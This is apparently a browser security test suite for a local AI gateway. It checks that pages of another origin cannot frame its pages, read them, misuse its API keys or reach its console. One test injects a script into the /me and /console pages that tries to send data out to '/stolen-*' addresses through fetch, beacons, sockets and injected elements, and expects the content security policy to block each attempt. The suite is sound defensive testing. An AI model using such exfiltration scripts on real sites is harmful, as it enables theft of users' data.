/**
 * Attacks by a page of another origin on the pages and the API: a real browser, with web security on. The other page is
 * on `localhost`, which is another site than `127.0.0.1`.
 */
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { defineConfig } from '../../core/config.ts';
import { listen } from '../../local/listen.ts';
import { hasBrowser, startBrowser } from '../support/browser.ts';
import { startConsole } from '../support/console-command.ts';
import { runHere } from '../support/hallpass-command.ts';
import { startTestGateway } from '../support/local-gateway.ts';
import { visit } from '../support/page-visit.ts';
import { type Started, start } from '../support/start-process.ts';

/** A directive of a content security policy. */
const isDirective = (text: string): boolean => /^[a-z-]+$/.test(text);

const PATHS = ['', 'me', 'console'];

describe.skipIf(!hasBrowser)('a page of another origin', () => {
  let folder: string;
  let gateway: Started;
  let browser: Browser;
  let context: BrowserContext;
  let server: Server;
  let other: string;
  let root: string;
  /** Paths that the other origin was asked for. */
  const asked: string[] = [];
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'hallpass-cross-'));
    gateway = await start(['--data', 'data'], folder);
    root = gateway.ready.url.replace(/v1$/, '');
    server = createServer((request, response) => {
      asked.push(request.url ?? '');
      response.setHeader('content-type', 'text/html');
      response.end('<!doctype html><title>other</title><p>other</p>');
    });
    other = (await listen(server)).replace('127.0.0.1', 'localhost');
    browser = await startBrowser();
  });
  beforeEach(async () => {
    context = await browser.newContext();
    return () => context.close();
  });
  afterAll(async () => {
    await browser?.close();
    server?.close().closeAllConnections();
    await gateway?.end();
    await rm(folder, { recursive: true, force: true });
  });

  async function openOther(): Promise<Page> {
    const page = await context.newPage();
    await page.goto(other);
    return page;
  }
  /** Runs a request in the page. @returns its status and the error's code, or `failed` if the browser keeps the answer */
  const ask = (page: Page, url: string, options: object = {}): Promise<unknown> =>
    page.evaluate(`fetch(${JSON.stringify(url)}, ${JSON.stringify(options)})
      .then(async (response) => [response.status, (await response.json().catch(() => ({}))).error?.code ?? null])
      .catch(() => 'failed')`);
  const bearer = (token: string) => ({ headers: { authorization: `Bearer ${token}` } });

  // guarantee: pages-keep-to-their-origin
  test.each(PATHS)('shows no page in a frame: /%s', async (path) => {
    const page = await openOther();
    await page.evaluate(`document.body.innerHTML = '<iframe src="${root}${path}"></iframe>'`);
    const frame = () => page.frames()[1];
    await expect.poll(() => frame()?.url()).toBe('chrome-error://chromewebdata/');
  });

  test('has no handle on a page that it opened, and so cannot change its address', async () => {
    const page = await openOther();
    const [opened] = await Promise.all([
      context.waitForEvent('page'),
      page.evaluate(
        `globalThis.handle = open(${JSON.stringify(`${root}me#${gateway.ready.token}`)})`,
      ),
    ]);
    await opened.getByText('of $2.00 left').first().waitFor();
    expect(await opened.evaluate('opener')).toBe(null);
    expect(await page.evaluate('[handle.closed, handle.length]')).toEqual([true, 0]);
  });

  test('reads no page, but the API answers it, which has no cookie to send', async () => {
    const page = await openOther();
    for (const path of [...PATHS, 'SKILL.md']) {
      expect([path, await ask(page, `${root}${path}`)]).toEqual([path, 'failed']);
    }
    const url = `${gateway.ready.url}/key`;
    expect(await ask(page, url, bearer(gateway.ready.token))).toEqual([200, null]);
    expect(await ask(page, url)).toEqual([401, 'invalid_api_key']);
    const withCookies = { ...bearer(gateway.ready.token), credentials: 'include' };
    expect(await ask(page, url, withCookies)).toBe('failed');
  });

  test('is refused by a key that names another origin, and answered by one that names it', async () => {
    const make = async (name: string, origin: string): Promise<string> => {
      const args = ['keys', 'create', name, '--origin', origin, '--json'];
      const { stdout } = await runHere([...args, '--data', join(folder, 'data')]);
      return JSON.parse(stdout).key;
    };
    const foreign = await make('foreign', 'https://app.example.edu');
    const own = await make('own', other);
    const page = await openOther();
    const body = JSON.stringify({
      model: 'demo/echo',
      messages: [{ role: 'user', content: 'Hi' }],
    });
    const post = (key: string) =>
      ask(page, `${gateway.ready.url}/chat/completions`, { method: 'POST', body, ...bearer(key) });
    expect(await post(foreign)).toEqual([403, 'origin_not_allowed']);
    expect(await post(own)).toEqual([200, null]);
  });

  test('is refused by a gateway whose configuration names another origin', async () => {
    const allowedOrigins = ['https://app.example.edu'];
    const strict = await startTestGateway({
      config: defineConfig({ providers: {}, demo: true, allowedOrigins }),
    });
    const page = await openOther();
    const token = bearer(strict.token);
    const body = JSON.stringify({
      model: 'demo/echo',
      messages: [{ role: 'user', content: 'Hi' }],
    });
    const post = { method: 'POST', body, ...token };
    expect(await ask(page, `${strict.url}/chat/completions`, post)).toEqual([
      403,
      'origin_not_allowed',
    ]);
    await strict.close();
  });

  // guarantee: pages-keep-to-their-origin
  test.each(['me', 'console'])(
    'is not loaded and not called by a script that came into /%s',
    async (path) => {
      const { page, faults, close } = await visit(browser, `${root}${path}`);
      const before = asked.length;
      await page.evaluate(`(async () => {
      const to = (what) => ${JSON.stringify(other)} + '/stolen-' + what;
      await fetch(to('fetch')).catch(() => {});
      navigator.sendBeacon(to('beacon'), 'x');
      try { new WebSocket(to('socket').replace('http', 'ws')); } catch {}
      const add = (name, attributes) => document.body.append(Object.assign(document.createElement(name), attributes));
      add('img', { src: to('img') });
      add('script', { src: to('script') });
      add('script', { textContent: 'fetch("inline")' });
      add('link', { rel: 'stylesheet', href: to('style') });
      add('iframe', { src: to('frame') });
      add('object', { data: to('object') });
      add('base', { href: to('base') });
      add('form', { action: to('form'), method: 'post', id: 'form' });
      document.getElementById('form').submit();
      await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
    })()`);
      const violated = async () => [...new Set((await faults()).filter(isDirective))].sort();
      await expect
        .poll(violated)
        .toEqual([
          'base-uri',
          'connect-src',
          'form-action',
          'frame-src',
          'img-src',
          'object-src',
          'script-src-elem',
          'style-src-elem',
        ]);
      expect(asked.slice(before)).toEqual([]);
      await close();
    },
  );

  // guarantee: console-on-loopback
  test('reaches nothing of hallpass console, and does not use up its code', async () => {
    const { file, end } = await startConsole(['--data', 'data'], folder);
    const link = /http:[^"]+/.exec(await readFile(file, 'utf8'))?.[0] ?? '';
    const { origin } = new URL(link);
    const page = await openOther();
    const session = { method: 'POST', body: '{"code":"guess"}' };
    expect(await ask(page, `${origin}/api/session`, session)).toBe('failed');
    expect(await ask(page, `${origin}/api/session`, { ...session, mode: 'no-cors' })).toEqual([
      0,
      null,
    ]);
    expect(await ask(page, `${origin}/api/keys`)).toBe('failed');
    await page.evaluate(`document.body.innerHTML = '<iframe src="${origin}/"></iframe>'`);
    await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
    const own = await context.newPage();
    await own.goto(pathToFileURL(file).href);
    await own.getByRole('heading', { name: 'Keys', exact: true }).waitFor();
    await end();
  });
});
